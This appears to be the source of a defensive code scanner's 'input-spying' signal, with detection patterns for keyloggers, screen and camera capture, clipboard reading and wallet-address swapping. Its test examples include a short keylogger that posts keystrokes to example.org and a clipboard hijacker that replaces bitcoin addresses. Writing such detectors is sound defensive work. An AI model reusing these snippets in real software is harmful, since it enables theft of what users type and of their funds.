"""Keys, screens, cameras or clipboards watched and sent."""

import re
from collections.abc import Iterator

from hunkwise.code.model import Unit
from hunkwise.signals.interface import Example, Sighting, Signal
from hunkwise.signals.malice.whole_file import View, in_files
from hunkwise.signals.tables.languages import CODE

_KEYS = re.compile(
    r"pynput[\w. ]*keyboard|keyboard\.(?:on_press|Listener|hook|on_release|record)|GetAsyncKeyState|SetWindowsHookEx|iohook"
    r"|pyHook|HookManager|GlobalKeyboardListener|/dev/input/event",
    re.I,
)
_SCREEN = re.compile(
    r"ImageGrab\.grab|pyautogui\.screenshot|screenshot-desktop|mss\.mss\(|CopyFromScreen|desktopCapturer"
    r"|cv2\.VideoCapture\(\s*0|sounddevice\.rec|pyaudio\.PyAudio"
)
_CLIP = re.compile(r"pyperclip\.paste|clipboardy|GetClipboardData|Get-Clipboard|clipboard\.read|win32clipboard", re.I)
_SWAP = re.compile(r"pyperclip\.copy|SetClipboard\w*|Set-Clipboard|clipboard\.write", re.I)
_PURSE = re.compile(
    r"\[13\]\[a-km-z|\(\?:bc1|bc1\[|0x\[a-fA-F0-9\]|0x\[0-9a-f|\[48\]\[0-9AB\]|T\[A-Za-z1-9\]|wallet|bitcoin|\bbtc\b|ethereum", re.I
)
_TELLS = re.compile(r"https?://|smtplib|\bsmtp\.|socket\.socket|webhook|ftplib", re.I)


def _look(unit: Unit, view: View) -> Iterator[Sighting]:
    sends = view.calls("send")
    sink = sends[0].path if sends else "the connection"
    reaches = sends and _TELLS.search(view.text)
    for pattern, strength in ((_KEYS, 0.8), (_SCREEN, 0.7), (_CLIP, 0.5)):
        if reaches and (found := pattern.search(view.text)):
            long = len(view.numbers) > 600
            yield Sighting(
                (view.line(found.start()),), {"source": found[0], "sink": sink[:40]}, strength=strength - (0.25 if long else 0.0)
            )
            return
    if (
        (swap := _SWAP.search(view.text))
        and _CLIP.search(view.text)
        and _PURSE.search(view.text)
        and re.search(r"while\s+(?:True|1|\()|setInterval|re\.(?:match|search|compile|fullmatch)", view.text)
    ):
        yield Sighting((view.line(swap.start()),), {"source": "the clipboard", "sink": swap[0]}, strength=0.8)


_see = in_files(
    _look,
    "keyboard",
    "hook",
    "getasynckeystate",
    "imagegrab",
    "screenshot",
    "mss",
    "copyfromscreen",
    "desktopcapturer",
    "videocapture",
    "clip",
    "sounddevice",
    "pyaudio",
    "/dev/input",
)


SIGNAL = Signal(
    id="input-spying",
    title="Keys, screen or clipboard watched",
    kind="payload",
    category="malicious-code",
    severity="critical",
    languages=CODE,
    promise=(
        "Tells of code that watches keys, takes pictures of the screen or camera, or reads the clipboard, and also "
        "sends; and of a clipboard that is searched for purses and overwritten."
    ),
    why="What people type and see is what thieves want most.",
    quiet="Watching alone, sending alone.",
    remedy="Don't merge. If it ran anywhere, change what was typed there.",
    cause="`{source}` is watched and `{sink}` sends it away.",
    since="0.2",
    maturity="stable",
    cwe="CWE-506",
    tactic="T1056.001",
    everywhere=True,
    see=_see,
    fires=(
        Example(
            "python",
            "import requests\n"
            "from pynput import keyboard\n"
            "\n"
            "def seen(key):\n"
            '    requests.post("https://example.org/a", data=str(key))\n'
            "\n"
            "keyboard.Listener(on_press=seen).start()\n",
            line=2,
        ),
        Example(
            "python",
            "import re\n"
            "import pyperclip\n"
            "\n"
            "while True:\n"
            "    text = pyperclip.paste()\n"
            '    if re.match(r"^(bc1|[13])[a-zA-Z0-9]{25,39}$", text) and "wallet":\n'
            "        pyperclip.copy(OTHER)\n",
            line=7,
        ),
    ),
    stays_quiet=(
        Example("python", "from pynput import keyboard\n\nkeyboard.Listener(on_press=jump).start()\n"),
        Example("python", 'import requests\nimport pyperclip\n\npyperclip.copy(requests.get("https://example.org/a").text)\n'),
    ),
)
